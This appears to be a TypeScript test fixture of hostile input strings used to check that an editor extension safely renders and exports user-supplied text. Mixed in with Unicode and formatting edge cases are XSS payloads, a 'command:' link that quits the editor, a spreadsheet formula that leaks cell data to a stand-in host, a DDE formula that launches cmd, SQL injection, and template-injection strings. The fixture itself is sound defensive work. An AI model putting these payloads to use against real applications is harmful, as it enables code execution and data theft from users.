/** Texts that break careless programs. Whoever calls, or fills in a form, can write any of them. */
export const hostileTexts = {
  script: '<script>globalThis.hacked=1</script>',
  image: '<img src=x onerror="globalThis.hacked=1">',
  commandLink: '[Open](command:workbench.action.quit)',
  markdown: '**bold** `code` ![](https://tracker.example/pixel.png) [link](https://evil.example)',
  formula: '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  plusFormula: "+cmd|'/C calc'!A0",
  atFormula: '@SUM(1+1)*cmd',
  rightToLeft: '\u202Egnp.elpmis\u202C שלום מרים',
  emoji: '👩‍👩‍👧‍👦 Ferguson 🏳️‍🌈 ☎️',
  codicon: '$(zap) $(sync~spin) Bolt',
  quotes: `O'Brien "The Plumber" \\ ; DROP TABLE calls;--`,
  lines: 'First line\r\nSecond line\twith a tab',
  template: '${process.exit(1)} {{7*7}} %s %n',
  zalgo: 'Z̷̡̛͎͉̫͑̐a̶͓̍l̴̰͐g̶̹̈́o̵̙͗',
  invisible: 'in\u200Bvis\u00ADi\u2060ble\uFEFF',
  long: `Wolfeschlegelsteinhausenbergerdorff ${'von der Hohenzollern-Sigmaringen '.repeat(12)}III`,
} as const;

export type HostileKind = keyof typeof hostileTexts;

export const hostileCompanyName = `Ye Olde <b>Bold</b> Antiques & "Sons" [Sale](command:noop) $(home)`;

/** 10 kB that begin and end with markup. */
export function longNote(): string {
  const paragraph =
    'The caller described the whole history of the clock, from the wedding in 1931 to the flood. ';
  const body = `<h1>Note</h1>\n${paragraph.repeat(120)}`.slice(0, 10_200);
  return `${body}</script><b>END OF NOTE</b>`;
}
